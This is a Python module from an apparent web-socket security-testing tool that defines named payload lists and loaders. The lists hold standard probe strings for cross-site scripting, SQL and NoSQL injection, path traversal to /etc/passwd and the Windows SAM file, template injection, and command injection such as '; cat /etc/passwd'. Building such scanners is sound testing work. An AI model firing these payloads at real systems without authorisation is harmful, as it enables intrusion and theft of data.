"""
Named payload sets

The core treats these purely as input data: an ordered list of literal
strings per label. Custom lists can be parsed from free text or a file.
"""
from pathlib import Path
from typing import Dict, List, Union

from wsprobe.exceptions import PayloadError, PayloadSetNotFoundError


def _sequence(start: int, end: int) -> List[str]:
    return [str(i) for i in range(start, end + 1)]


PAYLOAD_SETS: Dict[str, List[str]] = {
    "XSS": [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'-alert(1)-'",
        "<svg/onload=alert(1)>",
        "javascript:alert(1)",
        "\"><svg/onload=alert(document.domain)>",
        "<details/open/ontoggle=alert(1)>",
        "\" onmouseover=\"alert(1)",
    ],
    "SQLi": [
        "' OR '1'='1",
        "' OR 1=1--",
        "\" OR \"\"=\"",
        "' UNION SELECT NULL--",
        "admin'--",
        "1' ORDER BY 10--",
        "' AND SLEEP(5)--",
        "1' WAITFOR DELAY '0:0:5'--",
    ],
    "NoSQLi": [
        "{\"$gt\":\"\"}",
        "{\"$ne\":null}",
        "{\"$regex\":\".*\"}",
        "{\"$where\":\"sleep(5000)\"}",
        "{\"$exists\":true}",
        "[$ne]=1",
    ],
    "IDOR (1-50)": _sequence(1, 50),
    "IDOR (1-100)": _sequence(1, 100),
    "IDOR (1-500)": _sequence(1, 500),
    "Privilege Escalation": [
        "admin", "superadmin", "root", "administrator", "moderator",
        "staff", "owner", "system", "debug", "internal",
    ],
    "Boolean/Type Confusion": [
        "true", "false", "1", "0", "null", "undefined", "",
        "[]", "{}", "NaN", "Infinity", "-1",
    ],
    "Boundary Values": [
        "0", "-1", "2147483647", "-2147483648", "9223372036854775807",
        "-9223372036854775808", "1e308", "1e-308", "NaN", "-Infinity", "",
    ],
    "Path Traversal": [
        "../../../etc/passwd",
        "..\\..\\..\\windows\\system32\\config\\sam",
        "....//....//....//etc/passwd",
        "%2e%2e%2f%2e%2e%2f%2e%2e%2f",
        "..%252f..%252f..%252f",
    ],
    "Socket.IO Namespaces": [
        "/admin", "/debug", "/internal", "/system", "/api",
        "/private", "/management", "/dev",
    ],
    "SSTI": [
        "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
        "{{config}}", "{{self.__class__}}",
    ],
    "Command Injection": [
        "; whoami", "| whoami", "$(whoami)", "`whoami`",
        "&& whoami", "; id", "; cat /etc/passwd",
    ],
}


def get_payload_set(label: str) -> List[str]:
    """Return a copy of a named payload set."""
    try:
        return list(PAYLOAD_SETS[label])
    except KeyError:
        raise PayloadSetNotFoundError(
            f"Unknown payload set: {label}", details={"available": list(PAYLOAD_SETS)}
        )


def parse_payloads(text: str) -> List[str]:
    """One payload per line; blank lines and '#' comment lines are ignored."""
    payloads = []
    for line in text.splitlines():
        stripped = line.strip()
        if not stripped or stripped.startswith("#"):
            continue
        payloads.append(stripped)
    return payloads


def load_payload_file(path: Union[str, Path]) -> List[str]:
    try:
        text = Path(path).read_text(encoding="utf-8")
    except OSError as e:
        raise PayloadError(f"Failed to read payload file {path}: {e}", details={"path": str(path)})
    return parse_payloads(text)
